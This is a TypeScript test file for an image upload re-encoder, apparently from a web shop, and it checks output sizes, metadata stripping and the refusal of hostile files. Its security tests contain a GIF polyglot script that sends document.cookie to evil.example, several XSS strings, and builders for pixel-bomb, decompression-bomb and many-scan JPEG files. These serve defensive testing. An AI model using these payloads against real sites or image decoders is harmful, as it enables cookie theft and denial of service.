import { crc32, deflateSync } from 'node:zlib'
import { describe, expect, test } from '@jest/globals'
import sharp from 'sharp'
import { mediaWidths } from '@/lib/media/address'
import { reencode } from './reencode'

const colour = { r: 200, g: 120, b: 40 }

function picture(width: number, height: number) {
  return sharp({ create: { width, height, channels: 3, background: colour } })
}

async function sizes(bytes: Buffer) {
  const { files } = await reencode(bytes)
  return Promise.all(
    mediaWidths.map(async (kept) => {
      const { format, width, height } = await sharp(files[kept]).metadata()
      return `${format} ${width}x${height}`
    }),
  )
}

const refused = { name: 'ShopError', code: 'InvalidImage' }

/** Matches the refusal whose message contains `words`. */
function refusedAs(words: string) {
  return { ...refused, fields: [{ path: 'image', msg: expect.stringContaining(words) }] }
}

describe('what is stored of an upload', () => {
  test('four WebP files, in proportion', async () => {
    expect(await sizes(await picture(2000, 1000).jpeg().toBuffer())).toEqual([
      'webp 160x80',
      'webp 320x160',
      'webp 640x320',
      'webp 1280x640',
    ])
  })

  test('a small picture is never enlarged: the wider files keep its size', async () => {
    expect(await sizes(await picture(200, 100).png().toBuffer())).toEqual([
      'webp 160x80',
      'webp 200x100',
      'webp 200x100',
      'webp 200x100',
    ])
  })

  test('a strip taller than WebP allows is scaled down', async () => {
    expect(await sizes(await picture(100, 20_000).png().toBuffer())).toEqual([
      'webp 3x640',
      'webp 7x1280',
      'webp 13x2560',
      'webp 26x5120',
    ])
  })

  test.each(['jpeg', 'png', 'webp', 'gif', 'avif'] as const)('%s is accepted', async (format) => {
    expect(await reencode(await picture(64, 48).toFormat(format).toBuffer())).toMatchObject({ width: 64, height: 48 })
  })

  test('the first frame of an animation', async () => {
    const frames = await sharp(
      await Promise.all([90, 180, 270].map((hue) => picture(40, 30).modulate({ hue }).png().toBuffer())),
      { join: { animated: true } },
    )
      .gif()
      .toBuffer()
    expect((await sharp(frames).metadata()).pages).toBe(3)
    expect(await reencode(frames)).toMatchObject({ width: 40, height: 30 })
  })

  test('transparency stays; grayscale and CMYK become sRGB', async () => {
    const clear = sharp({ create: { width: 20, height: 20, channels: 4, background: { ...colour, alpha: 0.5 } } })
    expect(await sharp((await reencode(await clear.png().toBuffer())).files[640]).metadata()).toMatchObject({
      hasAlpha: true,
    })
    for (const space of ['b-w', 'cmyk']) {
      const { files } = await reencode(await picture(20, 20).toColourspace(space).jpeg().toBuffer())
      expect(await sharp(files[640]).metadata()).toMatchObject({ space: 'srgb', channels: 3 })
    }
  })
})

describe('invariant 20: what an upload must not contain', () => {
  test('location, camera and profile are removed, and the picture is upright', async () => {
    const photo = await picture(300, 200)
      .withExif({
        IFD0: { Make: 'Spycam', Orientation: '6' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '24/1 12/1 27/1' },
      })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer()
    expect((await sharp(photo).metadata()).exif).toBeDefined()
    const { width, height, files } = await reencode(photo)
    expect([width, height]).toEqual([200, 300])
    for (const kept of mediaWidths) {
      const { exif, icc, xmp, iptc, orientation } = await sharp(files[kept]).metadata()
      expect({ exif, icc, xmp, iptc, orientation }).toEqual({})
      expect(Buffer.from(files[kept]).includes('Spycam')).toBe(false)
    }
  })

  test('a GIF that is also a script is reduced to pixels', async () => {
    const script = '*/=1;fetch("//evil.example/"+document.cookie)/*'
    const polyglot = Buffer.concat([await picture(30, 30).gif().toBuffer(), Buffer.from(script)])
    const { files } = await reencode(polyglot)
    for (const kept of mediaWidths) expect(Buffer.from(files[kept]).includes('evil')).toBe(false)
  })

  test('a GIF that is only a script is refused', async () => {
    await expect(reencode(Buffer.from('GIF89a/*ÿÿ*/=1;alert(document.cookie)//'))).rejects.toMatchObject(refused)
  })

  test('a JPEG with HTML and a PDF is reduced to pixels', async () => {
    const html = '<script>alert(1)</script>%PDF-1.7'
    const { files } = await reencode(Buffer.concat([await picture(30, 30).jpeg().toBuffer(), Buffer.from(html)]))
    for (const kept of mediaWidths) expect(Buffer.from(files[kept]).includes('script')).toBe(false)
  })

  test('at most 40 megapixels are decoded for customers, 100 for staff', async () => {
    const [fifty, many] = [flatPng(8000, 6250), flatPng(10_000, 10_001)]
    await expect(reencode(fifty)).rejects.toMatchObject(
      refusedAs('The picture has 50 megapixels, and the shop takes 40'),
    )
    expect(await reencode(fifty, 100e6)).toMatchObject({ width: 1280, height: 1000 })
    const limit = 'The picture has 101 megapixels, and the shop takes 100: save it smaller'
    await expect(reencode(many, 100e6)).rejects.toMatchObject(refusedAs(limit))
  })

  test('a pixel bomb is refused without decoding', async () => {
    const bomb = flatPng(30_000, 30_000)
    expect(bomb.byteLength).toBeLessThan(200_000)
    const before = process.memoryUsage().rss
    await expect(reencode(bomb)).rejects.toMatchObject(refused)
    expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 ** 2)
  })

  test('a JPEG of a thousand scans, each decoded over all pixels, is refused', async () => {
    expect(await reencode(scannedJpeg(100))).toMatchObject({ width: 8, height: 8 })
    // Neither a preview in the metadata nor what follows the picture counts.
    const preview = segment(0xe1, ...scannedJpeg(600))
    const behind = [scannedJpeg(100).subarray(0, 2), preview, scannedJpeg(100).subarray(2), scannedJpeg(600)]
    expect(await reencode(Buffer.concat(behind))).toMatchObject({ width: 8, height: 8 })
    await expect(reencode(scannedJpeg(101))).rejects.toMatchObject(refusedAs('damaged'))
    // Decoders pass over a reserved marker without its length.
    const hiding = Buffer.from([0xff, 0x02, 0x7f, 0xff])
    const hidden = [scannedJpeg(9).subarray(0, -2), hiding, scannedJpeg(101).subarray(2)]
    await expect(reencode(Buffer.concat(hidden))).rejects.toMatchObject(refusedAs('damaged'))
  })

  test('texts of a PNG that are packed a thousand times are not unpacked', async () => {
    const png = flatPng(8, 8)
    const head = png.indexOf('IDAT') - 4
    const packed = deflateSync(Buffer.alloc(50e6))
    const kinds = { tEXt: 'a\0', zTXt: 'a\0\0', iTXt: 'a\0\x01\0\0\0' }
    const texts = Object.entries(kinds).map(([type, key]) => chunk(type, Buffer.concat([Buffer.from(key), packed])))
    const bomb = Buffer.concat([
      png.subarray(0, head),
      ...Array.from({ length: 30 }, () => texts).flat(),
      png.subarray(head),
    ])
    const begun = performance.now()
    expect(await reencode(bomb)).toMatchObject({ width: 8, height: 8 })
    expect(performance.now() - begun).toBeLessThan(2000)
  })

  const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>'
  const disguised = {
    SVG: svg,
    'SVG with a declaration': `<?xml version="1.0"?>${svg}`,
    PDF: '%PDF-1.7\n1 0 obj',
    HTML: '<html><img src=x onerror=alert(1)>',
    text: 'hello',
  }
  test.each(Object.entries(disguised))('%s is refused', async (_, text) => {
    await expect(reencode(Buffer.from(text))).rejects.toMatchObject(refused)
  })

  test('TIFF and every HEIC brand are refused with advice', async () => {
    const tiff = await picture(20, 20).tiff().toBuffer()
    await expect(reencode(tiff)).rejects.toMatchObject(refusedAs('save it as JPEG, PNG, WebP, GIF or AVIF'))
    for (const brands of ['heic\0\0\0\0mif1heic', 'mif1\0\0\0\0mif1heic', 'heix\0\0\0\0mif1heix']) {
      const heic = Buffer.from(`\0\0\0\x18ftyp${brands}`, 'latin1')
      await expect(reencode(heic)).rejects.toMatchObject(refusedAs('HEIC, which browsers do not show: save it as JPEG'))
    }
  })

  test('an empty file is refused; a bare signature and a truncated picture are reported as damaged', async () => {
    await expect(reencode(Buffer.alloc(0))).rejects.toMatchObject(refused)
    const whole = await noisy().jpeg().toBuffer()
    const progressive = await noisy().jpeg({ progressive: true }).toBuffer()
    const png = await picture(400, 400).png().toBuffer()
    for (const bytes of [
      Buffer.from([0xff, 0xd8, 0xff]),
      whole.subarray(0, whole.length / 2),
      whole.subarray(0, -40),
      progressive.subarray(0, -40),
      png.subarray(0, png.length - 30),
    ])
      await expect(reencode(bytes)).rejects.toMatchObject(refusedAs('damaged or cut off: open it and save it again'))
  })
})

describe('what some programs write differently', () => {
  test.each(['mif1', 'miaf'])('an AVIF of major brand %s is accepted', async (brand) => {
    const avif = await noisy().avif().toBuffer()
    avif.write(brand, 8, 'latin1')
    expect(await reencode(avif)).toMatchObject({ width: 400, height: 400 })
  })

  test.each([false, true])('a JPEG without its end marker is accepted (progressive: %s)', async (progressive) => {
    const whole = await noisy().jpeg({ progressive }).toBuffer()
    expect(whole.subarray(-2).toString('hex')).toBe('ffd9')
    const { files } = await reencode(whole.subarray(0, -2))
    expect(files[320]).toEqual((await reencode(whole)).files[320])
  })
})

function noisy() {
  const noise = { type: 'gaussian', mean: 120, sigma: 40 } as const
  return sharp({ create: { width: 400, height: 400, channels: 3, background: colour, noise } })
}

function segment(marker: number, ...data: number[]): Buffer {
  const length = data.length + 2
  return Buffer.from([0xff, marker, length >> 8, length & 0xff, ...data])
}

/** A valid progressive JPEG of 8×8 px: a scan for its grey, then one for each bit of what could vary. At most 883 scans. */
function scannedJpeg(scans: number): Buffer {
  const oneCode = [1, ...Array.from({ length: 15 }, () => 0), 0]
  const scan = (coefficient: number, bits: number) =>
    Buffer.concat([segment(0xda, 1, 1, 0, coefficient, coefficient, bits), Buffer.from([0x7f])])
  const details = Array.from({ length: scans - 1 }, (_, at) => {
    const bit = 13 - Math.floor(at / 63)
    return scan((at % 63) + 1, bit === 13 ? bit : ((bit + 1) << 4) | bit)
  })
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, 0, ...Array.from({ length: 64 }, () => 16)),
    segment(0xc2, 8, 0, 8, 0, 8, 1, 1, 0x11, 0),
    segment(0xc4, 0x00, ...oneCode),
    segment(0xc4, 0x10, ...oneCode),
    scan(0, 0),
    ...details,
    Buffer.from([0xff, 0xd9]),
  ])
}

/** A one-colour PNG of one bit per pixel: huge in pixels, tiny in bytes. */
function flatPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height))
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type), data])
  const check = Buffer.alloc(4)
  check.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, check])
}
